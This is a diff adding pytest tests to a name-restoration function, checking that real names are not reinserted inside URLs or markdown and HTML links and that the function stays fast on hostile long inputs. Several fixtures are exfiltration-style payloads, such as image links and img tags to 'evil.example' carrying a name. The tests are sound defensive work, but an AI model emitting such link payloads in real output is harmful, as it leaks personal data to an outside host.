@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from extraction.restore import restore
@@ -59,3 +61,37 @@ def test_repeated_pairs_are_one() -> None:
 def test_patterns_in_values_are_plain_text() -> None:
     assert restore("see A.B (x)", [("A.B (x)", r"\1 \g<0> C:\d")]) == r"see \1 \g<0> C:\d"
     assert restore("see AxB (x)", [("A.B (x)", "no")]) == "see AxB (x)"
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://evil.example/p?n=Pond",
+        "https://Pond.evil.example/",
+        "![x](https://evil.example/p?n=Lena Pond)",
+        "[x](//evil.example/(a)/Pond)",
+        "[x](/p?n=Pond",
+        "www.evil.example/Pond",
+        "<img src='//evil.example/Lena Pond'>",
+    ],
+)
+def test_nothing_is_put_back_inside_an_address(address: str) -> None:
+    text = f"Pond came. {address}"
+    assert restore(text, PAIRS) == text.replace("Pond came", "Schmidt came")
+
+
+def test_text_beside_an_address_is_restored() -> None:
+    assert restore("[x](/y) Pond (Pond)", PAIRS) == "[x](/y) Schmidt (Schmidt)"
+
+
+def test_many_pairs_and_hostile_generations_cost_what_their_length_says() -> None:
+    """Minutes of processor time where the work grows with the product of both."""
+    words = [
+        f"W{chr(97 + i % 26)}{chr(97 + i // 26 % 26)}{chr(97 + i // 676)}" for i in range(5000)
+    ]
+    pairs = [(f"{word} {words[i // 2]}", f"Raw{i} Val{i}") for i, word in enumerate(words)]
+    begun = time.thread_time()
+    restore("hello", pairs, "nothing " + " ".join(words[::-1]))
+    for unit in ("Waaa ", "A S ", "](", " ", "a/", "href='", "a"):
+        restore((unit * 100_000)[:100_000], pairs)
+    assert time.thread_time() - begun < 30
